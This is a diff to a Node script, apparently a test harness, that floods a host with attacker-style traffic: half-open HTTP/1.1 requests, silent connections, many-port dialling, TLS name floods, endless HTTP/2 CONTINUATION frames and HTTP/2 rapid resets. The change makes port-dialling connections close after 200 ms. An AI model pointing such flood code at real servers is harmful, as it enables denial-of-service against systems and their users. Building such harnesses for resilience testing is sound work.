@@ -1,7 +1,7 @@
 // flood.mjs KIND HOST PORT COUNT: what an attacker sends, COUNT times, all of it held open until the input ends. KIND:
 //   half          half of an HTTP/1.1 request on each connection
 //   silent        nothing on each connection
-//   ports         one connection to each of COUNT ports, from PORT on
+//   ports         one connection to each of COUNT ports, from PORT on, each ended after a moment
 //   names         a TLS ClientHello with a server name of its own on each connection
 //   continuation  HTTP/2 headers that never end, COUNT frames of 16 kB
 //   reset         COUNT HTTP/2 requests, each reset at once
@@ -15,6 +15,9 @@ const port = Number(firstPort);
 const told = { opened: 0, refused: 0, closed: 0 };
 /** Connections on their way: more would only fill the queue of the listening socket. */
 const AT_ONCE = 128;
+
+/** How long a connection to one of many ports stays. */
+const DIALLED_MS = 200;
 
 const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
 function frame(type, flags, stream, payload) {
@@ -88,8 +91,13 @@ async function one(index) {
       return void (await dial(port))?.write("GET /half HTTP/1.1\r\nHost: victim\r\nX-Slow: ");
     case "silent":
       return void (await dial(port));
-    case "ports":
-      return void (await dial(port + index))?.write("hello\n");
+    case "ports": {
+      const socket = await dial(port + index);
+      socket?.write("hello\n");
+      await new Promise((resolve) => setTimeout(resolve, DIALLED_MS));
+      socket?.destroy();
+      return;
+    }
     case "names": {
       const socket = await dial(port);
       if (socket === undefined) return;
